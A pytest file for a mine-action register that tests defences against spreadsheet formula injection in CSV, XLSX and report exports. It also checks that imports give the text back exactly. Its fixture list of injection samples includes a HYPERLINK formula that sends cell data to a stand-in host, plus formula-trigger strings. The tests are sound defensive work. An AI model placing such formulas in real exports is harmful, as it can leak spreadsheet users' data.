"""Spreadsheet formula injection (OWASP CSV injection): every CSV and XLSX written is safe to open,
and an import of it gives the user's text back exactly; the other formats keep values as they are."""

from __future__ import annotations

import csv
import datetime as dt
import json
import shutil
from collections.abc import Iterator
from pathlib import Path

import openpyxl
import pyogrio
import pytest

from mineaction.domain.spreadsheet import neutralise, restore
from mineaction.io import import_file
from mineaction.io.export import export
from mineaction.reports.annual import annual_report
from mineaction.reports.writers import write_csv, write_xlsx
from mineaction.storage import review
from mineaction.storage.register import Register
from tests.common import OPERATOR, activity_values, hazard_values, square_m

INJECTIONS = ['=HYPERLINK("http://example.invalid/?"&A1,"open")', "+1+1", "-2+3", "@SUM(A1)", "\tx", "\rx"]
#: a user's own quotes: kept as typed, through export and import
OWN_QUOTES = ["'=already quoted", "'quoted'"]
DESCRIPTIONS = INJECTIONS + OWN_QUOTES
ORGANISATION = "=1+1 Demining (fictional)"


@pytest.fixture
def hostile(register: Register) -> Register:
    """Hazards described with formulas, an organisation named like one, a negative number stored as a number."""
    with register.write("test", "formula injection") as w:
        org = w.add("organisation", {"name": ORGANISATION, "organisation_type": "ngo"})
        for i, text in enumerate(DESCRIPTIONS):
            hazard = w.add("hazard", hazard_values(org.id, description=text, reference_lon=-33.5 - i),
                           square_m(i * 500, 0, 200))
            if i == 0:
                activity = w.add("activity", activity_values(hazard.id, org.id))
                w.release(activity_id=activity.id, geometry=square_m(0, 0, 100), release_type="cleared",
                          method="manual", released_on=dt.date(2025, 5, 1))
    return register


@pytest.fixture
def target(gpkg_template: Path, tmp_path: Path) -> Iterator[Register]:
    """A second, empty register to import the exports into."""
    path = tmp_path / "target.gpkg"
    shutil.copy(gpkg_template, path)
    with Register.open(path) as register:
        yield register


def _imported(register: Register) -> list[str]:
    """The hazard descriptions as imported."""
    return sorted(h["description"] for h in register.records("hazard"))


def _csv_rows(path: Path) -> list[dict[str, str]]:
    with path.open(encoding="utf-8", newline="") as f:
        return list(csv.DictReader(line for line in f if not line.startswith("#")))


def test_neutralise_quotes_only_text_that_would_run() -> None:
    for text in INJECTIONS:
        assert neutralise(text) == "'" + text and restore(neutralise(text)) == text
    assert neutralise("'=already quoted") == "''=already quoted"
    assert neutralise("'quoted'") == "'quoted'" and restore("'quoted'") == "'quoted'"
    assert neutralise(-2.5) == -2.5 and neutralise(-3) == -3 and neutralise(None) is None  # numbers stay numbers
    assert neutralise("HAZ-000001") == "HAZ-000001"


def test_csv_and_xlsx_exports_are_neutralised_and_import_back_exactly(
        hostile: Register, target: Register, tmp_path: Path) -> None:
    csvs = export(hostile, tmp_path / "out.csv", entities=["organisation", "hazard"], scope=OPERATOR).paths
    hazards_csv = next(p for p in csvs if p.name == "out.hazard.csv")
    rows = _csv_rows(hazards_csv)
    assert sorted(r["description"] for r in rows) == sorted(neutralise(t) for t in DESCRIPTIONS)
    assert all(r["description"].startswith("'") for r in rows if r["description"] not in OWN_QUOTES[1:])
    assert {r["reference_lon"] for r in rows} == {str(-33.5 - i) for i in range(len(DESCRIPTIONS))}  # unquoted
    assert _csv_rows(next(p for p in csvs if p.name == "out.organisation.csv"))[0]["name"] == "'" + ORGANISATION

    xlsx = export(hostile, tmp_path / "out.xlsx", entities=["organisation", "hazard"], scope=OPERATOR).paths[0]
    sheet = openpyxl.load_workbook(xlsx)["hazard"]
    header = [c.value for c in sheet[1]]
    cells = [row[header.index("description")] for row in sheet.iter_rows(min_row=2)]
    assert sorted(c.value for c in cells) == sorted(neutralise(t) for t in DESCRIPTIONS)
    for cell in cells:
        assert cell.data_type == "s" and (cell.value.startswith("'") or cell.value == "'quoted'")
    numbers = [row[header.index("reference_lon")] for row in sheet.iter_rows(min_row=2)]
    assert all(c.data_type == "n" and c.value < 0 for c in numbers)

    for path in (hazards_csv.with_name("out.organisation.csv"), hazards_csv):  # the operator first: hazards link to it
        result = import_file(target, path, entity=path.stem.split(".")[-1], user="im", reason="round trip")
        assert result.report.ok, result.report.problems
        review.approve(target, import_id=result.queued.import_id, user="rev", reason="ok")
    assert _imported(target) == sorted(t.replace("\r", "\n") for t in DESCRIPTIONS)  # GDAL reads CR as LF
    assert target.records("organisation")[0]["name"] == ORGANISATION


def test_an_xlsx_export_imports_back_exactly(hostile: Register, target: Register, tmp_path: Path) -> None:
    xlsx = export(hostile, tmp_path / "out.xlsx", entities=["organisation", "hazard"], scope=OPERATOR).paths[0]
    result = import_file(target, xlsx, user="im", reason="round trip")
    assert result.report.ok, result.report.problems
    for queued in {r.import_id for r in review.reports(target, status="submitted")}:
        review.approve(target, import_id=queued, user="rev", reason="ok")
    assert _imported(target) == sorted(DESCRIPTIONS)  # exactly, carriage return included
    assert target.records("organisation")[0]["name"] == ORGANISATION


@pytest.mark.parametrize("suffix", [".gpkg", ".geojson", ".kml"])
def test_other_formats_keep_values_as_they_are(hostile: Register, tmp_path: Path, suffix: str) -> None:
    path = export(hostile, tmp_path / f"out{suffix}", entities=["hazard"], scope=OPERATOR).paths[0]
    if suffix == ".geojson":
        described = [f["properties"]["description"] for f in json.loads(path.read_text("utf-8"))["features"]]
    else:
        described = list(pyogrio.read_dataframe(path, layer="hazard" if suffix == ".gpkg" else None)["description"])
    if suffix == ".kml":  # XML text: a carriage return reads back as a line feed, as XML requires
        described = [d.replace("\n", "\r") for d in described]
    assert sorted(described) == sorted(DESCRIPTIONS)


def test_report_csv_and_xlsx_quote_labels_that_would_run(hostile: Register, tmp_path: Path) -> None:
    report = annual_report(hostile, 2025, scope=OPERATOR)
    rows = _csv_rows(next(p for p in write_csv(report, tmp_path / "csv") if p.name == "land_release_by_organisation.csv"))
    assert [r["organisation"] for r in rows] == ["'" + ORGANISATION, ""]
    assert rows[-1]["organisation_id"] == "total"
    book = openpyxl.load_workbook(write_xlsx(report, tmp_path / "report.xlsx"))
    sheet = book["land_release_by_organisation"]
    assert sheet["B2"].data_type == "s" and sheet["B2"].value == "'" + ORGANISATION
    assert all(c.data_type == "n" for c in sheet[2][2:])  # the areas stay numbers
    assert all(c.data_type != "f" for ws in book.worksheets for row in ws.iter_rows() for c in row)
